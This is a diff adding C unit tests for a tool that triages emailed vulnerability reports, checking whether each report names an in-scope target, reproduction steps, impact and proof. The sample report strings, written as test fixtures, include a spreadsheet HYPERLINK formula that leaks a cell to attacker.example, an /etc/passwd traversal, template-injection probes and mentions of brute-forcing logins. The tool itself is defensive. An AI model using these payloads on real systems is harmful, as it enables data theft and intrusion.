@@ -1914,6 +1914,52 @@ static void test_completeness_evidence(void **state)
 }
 
  /*
+  * The target in the reporter's own words: an asset URL or host, an
+  * endpoint's path, the product's sender address; not a URL inside a
+  * payload, not the security address, not quoted earlier mail (unless
+  * the mail is a forward).
+  */
+static void test_target_own_words(void **state)
+{
+    static const struct {
+	const char *subject;
+	const char *text;
+	int     target;
+    }       cases[] = {
+	{"Report", "Reflected XSS at https://www.callhub.io/search/?q=x in the q parameter.", 1},
+	{"Report", "The password reset on app.callhub.io never expires its links.", 1},
+	{"Stored XSS in /campaigns/edit", "Details below soon.", 1},
+	{"Report", "IDOR on the endpoint /v1/invoices/{id}/ returns any invoice.", 1},
+	{"Report", "The reminder mails sent from no-reply@callhub.io show the raw HTML.", 1},
+	{"Fwd: a customer's bug", "FYI.\n\n-----Original Message-----\nFrom: A <a@b.example>\n\n"
+	 "On https://app.callhub.io/agent/ other teams' notes show up.", 1},
+	{"Report", "I mailed security@callhub.io twice about it without an answer.", 0},
+	{"Report", "A cell set to =HYPERLINK(\"http://attacker.example/?d=\"&B1) runs when opened.", 0},
+	{"Report", "Traversal: the download returns the content of /etc/passwd.", 0},
+	{"Re: [SEC-9] IDOR", "Any news?\n\nOn Tue, 3 Mar 2026 at 09:00, R <r@x.example> wrote:\n"
+	 "> GET https://api.callhub.io/v1/notes/5/ gives others' notes\n", 0},
+	{"Re: [SEC-9] IDOR", "Any news?\n\n> I tried it on app.callhub.io yesterday.\n", 0},
+    };
+    struct sm_config cfg;
+    struct report r;
+    struct triage t;
+    size_t  i;
+
+    (void) state;
+    sm_config_init(&cfg);
+    assert_int_equal(strlist_add(&cfg.in_scope_domains, "callhub.io"), 0);
+    assert_int_equal(strlist_add(&cfg.in_scope_domains, "*.callhub.io"), 0);
+    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+	judge(&t, &r, cases[i].subject, cases[i].text, &cfg);
+	if (t.complete[ITEM_TARGET] != cases[i].target)
+	    fail_msg("case %zu: target %d, want %d", i, t.complete[ITEM_TARGET], cases[i].target);
+	triage_free(&t);
+	report_destroy(&r);
+    }
+    sm_config_free(&cfg);
+}
+
+ /*
   * Completeness as people write it: procedures in prose, lead-ins,
   * menu paths and commands (steps); impact with words between the actor
   * and the verb, hedged verbs, whose data, observed outages (impact);
@@ -1958,6 +2004,50 @@ static void test_completeness_wordings(void **state)
 	/* steps: a scanner's findings are not steps; a state is not an action */
 	{ITEM_STEPS, "Findings:\n1. Missing HSTS header - Medium\n2. Cookie without Secure flag - Low\n", 0},
 	{ITEM_STEPS, "Subject line aside, the DMARC policy is set to quarantine.", 0},
+	/* steps: first-person actions in a row, a request told, a tool or script run */
+	{ITEM_STEPS, "I signed in on my laptop and my phone, reset the password on the laptop, and the phone stayed in.", 1},
+	{ITEM_STEPS, "We invited a fresh agent, accepted the invite in a private window and opened the billing page.", 1},
+	{ITEM_STEPS, "Logged in as tenant A, I requested https://api.example.org/v3/boards/19/ which is tenant B's board.", 1},
+	{ITEM_STEPS, "To be sure I ran medusa against my own login for twenty minutes.", 1},
+	{ITEM_STEPS, "I used a short python script to post 3000 codes to the verify endpoint.", 1},
+	{ITEM_STEPS, "I rang your helpdesk, claimed to be my manager and asked for a new login link.", 1},
+	/* steps: "Steps" headings, other languages, "reproduce by" */
+	{ITEM_STEPS, "Steps - open the profile, press Export, read the file.", 1},
+	{ITEM_STEPS, "STEPS\nmake a note with the payload\nview it as another agent", 1},
+	{ITEM_STEPS, "Schritte zum Nachstellen: anmelden, Profil \xc3\xb6" "ffnen, Namen speichern.", 1},
+	{ITEM_STEPS, "Pasos: entrar como agente, abrir la lista, cambiar el id.", 1},
+	{ITEM_STEPS, "Passos: entrar na conta, abrir o relat\xc3\xb3rio, mudar o n\xc3\xbamero.", 1},
+	{ITEM_STEPS, "\xc3\x89tapes : se connecter, ouvrir la facture, changer le num\xc3\xa9ro.", 1},
+	{ITEM_STEPS, "It is reproducible by pasting the snippet into the signature field.", 1},
+	{ITEM_STEPS, "Reproduce it by uploading the attached SVG as your avatar.", 1},
+	{ITEM_STEPS, "To trigger it, set the callback URL to an internal address and press Test.", 1},
+	/* steps: a conditional experiment with a place and a result, a gerund with its result */
+	{ITEM_STEPS, "if i type a double quote in the coupon field i get a syntax error back", 1},
+	{ITEM_STEPS, "When a backtick is entered in the tag filter the API returns a stack of SQL.", 1},
+	{ITEM_STEPS, "If you paste <i>x</i> into the comment box, other viewers see italics.", 1},
+	{ITEM_STEPS, "Raising the page number past 900 in the link returns invoices of other shops.", 1},
+	{ITEM_STEPS, "Editing the order id in the URL gives the order of another buyer.", 1},
+	{ITEM_STEPS, "In the preview the name {{ 3*3 }} is shown as 9, and ${3*3} printed 9 too.", 1},
+	{ITEM_STEPS, "A note saved as plain text.\n\nRequest:\n\nPOST /api/notes/ HTTP/1.1\nHost: api.example.org\n", 0},
+	/* steps: questions about reproducing, a capture described, a vague hint */
+	{ITEM_STEPS, "Were you able to reproduce it on your side?", 0},
+	{ITEM_STEPS, "Since your update I can no longer reproduce the bug.", 0},
+	{ITEM_STEPS, "Tell me if you need more details to reproduce.", 0},
+	{ITEM_STEPS, "Attached is a video of the app when I open my inbox.", 0},
+	{ITEM_STEPS, "If you want, I can send you everything and show you on a call.", 0},
+	{ITEM_STEPS, "When an attacker sends the link, the victim's browser runs it.", 0},
+	{ITEM_STEPS, "Schritte folgen in der n\xc3\xa4" "chsten Mail.", 0},
+	/* steps: subjectless past tense, present tense, tried and it worked */
+	{ITEM_STEPS, "Signed in as a dispatcher, opened the billing URL by hand, it loaded.", 1},
+	{ITEM_STEPS, "i open the invoice, change the number in url and i see other invoice", 1},
+	{ITEM_STEPS, "I reused the old magic link next day and it still worked.", 1},
+	{ITEM_STEPS, "Reproduce: sign in, open /exports, swap the file id.", 1},
+	{ITEM_STEPS, "We use your dialer every day and we love it.", 0},
+	/* steps: how it was reported, a suggestion, an offer are not what was done */
+	{ITEM_STEPS, "I filed a support ticket in May, and added the screenshots you asked for.", 0},
+	{ITEM_STEPS, "We joined your bounty program and sent our first report last week.", 0},
+	{ITEM_STEPS, "Adding a captcha to the signup form makes it much safer.", 0},
+	{ITEM_STEPS, "When you confirm the bounty I will share the whole write-up.", 0},
 	/* impact */
 	{ITEM_IMPACT, "CSRF. An attacker who gets a logged-in agent to visit a page\ncan rename every campaign.", 1},
 	{ITEM_IMPACT, "SQL injection in the search; anybody with a trial account could probably dump the users table.", 1},
@@ -1973,6 +2063,37 @@ static void test_completeness_wordings(void **state)
 	{ITEM_IMPACT, "Lowering the id shows lists of workspaces I am not a member of.", 1},
 	{ITEM_IMPACT, "During the test the portal was not loading for my colleague either.", 1},
 	{ITEM_IMPACT, "I am not a member of any bug bounty platform.", 0},
+	/* impact: what is seen that belongs to someone else, and what it holds */
+	{ITEM_IMPACT, "Lowering the number, he reads the chat logs of a totally different shop with buyer names and card numbers.", 1},
+	{ITEM_IMPACT, "The export endpoint returns another tenant's contacts.", 1},
+	{ITEM_IMPACT, "Billing history of another company visible to any trial user", 1},
+	{ITEM_IMPACT, "I could download the reports of a different agency.", 1},
+	{ITEM_IMPACT, "The page shows my own notes with my name and phone number.", 0},
+	{ITEM_IMPACT, "The signup form asks for names and phone numbers of the volunteers.", 0},
+	/* impact: who would be fooled, rights gained, what the server reaches */
+	{ITEM_IMPACT, "Volunteers would trust the banner since it sits inside the dashboard.", 1},
+	{ITEM_IMPACT, "Callers will believe it, the SMS carries your brand name.", 1},
+	{ITEM_IMPACT, "Any dispatcher can make herself an administrator with one PATCH.", 1},
+	{ITEM_IMPACT, "A viewer account becomes owner after the role field is edited.", 1},
+	{ITEM_IMPACT, "The PDF renderer reaches the cloud metadata service.", 1},
+	{ITEM_IMPACT, "Users will click the Export button to get the CSV.", 0},
+	/* impact: the heading and the attacker in other languages */
+	{ITEM_IMPACT, "Auswirkung: fremde Anrufaufzeichnungen sind abrufbar.", 1},
+	{ITEM_IMPACT, "Impacto: se pueden leer las notas de otros clientes.", 1},
+	{ITEM_IMPACT, "Impatto: le chiamate degli altri clienti sono leggibili.", 1},
+	{ITEM_IMPACT, "Ein Angreifer kann die Rechnungen anderer Firmen herunterladen.", 1},
+	{ITEM_IMPACT, "Um atacante pode apagar as campanhas de qualquer conta.", 1},
+	/* impact: the means is not the gain */
+	{ITEM_IMPACT, "Anyone can build such a link on your domain.", 0},
+	{ITEM_IMPACT, "Someone could craft a link that steals the agent's session.", 1},
+	/* impact: an ordinary member doing what is not theirs, what the victim loses, made public */
+	{ITEM_IMPACT, "With that a read-only user deletes the campaigns of the owner.", 1},
+	{ITEM_IMPACT, "The owner would lose control of the workspace.", 1},
+	{ITEM_IMPACT, "Exported contact files are downloadable by anyone who has the link.", 1},
+	{ITEM_IMPACT, "Consequences: strangers listen to the owner's calls.", 1},
+	{ITEM_IMPACT, "Every agent sees the dashboard after login.", 0},
+	{ITEM_IMPACT, "Your API docs are public.", 0},
+	{ITEM_IMPACT, "Risk: low", 0},
 	/* impact: a vague claim of harm is not one */
 	{ITEM_IMPACT, "I found a critical bug which can lead to big loss, what is the reward?", 0},
 	/* poc */
@@ -1990,6 +2111,11 @@ static void test_completeness_wordings(void **state)
 	{ITEM_POC, "URL: https://app.example.org/settings/", 0},
 	{ITEM_POC, "Please see the attached mail from our customer about it.", 0},
 	{ITEM_POC, "The clerk answered with a screenshot of the admin settings.", 0},
+	/* poc: an id swap shown with its two values, whoever did it */
+	{ITEM_POC, "He edits the link (https://app.example.org/board/8812/cards/ to 8813) and gets another board.", 1},
+	{ITEM_POC, "Our intern moved the invoice id from 7719 to 7720 and saw a stranger's invoice.", 1},
+	{ITEM_POC, "We grew from 10 to 12 agents last month.", 0},
+	{ITEM_POC, "Please upgrade from version 10 to 12 of the library.", 0},
 	/* poc: a proof sent in an earlier mail is not in this one */
 	{ITEM_POC, "Any news on my ticket? I shared the PoC last week.", 0},
 	{ITEM_POC, "Still open after a month; I already sent you the payload.", 0},
@@ -2402,6 +2528,7 @@ int     main(void)
 	cmocka_unit_test(test_json_missing_order_and_bad_utf8),
 	cmocka_unit_test(test_target_by_version),
 	cmocka_unit_test(test_steps_and_poc),
+	cmocka_unit_test(test_target_own_words),
 	cmocka_unit_test(test_vocabularies),
 	cmocka_unit_test(test_hostile_input),
     };
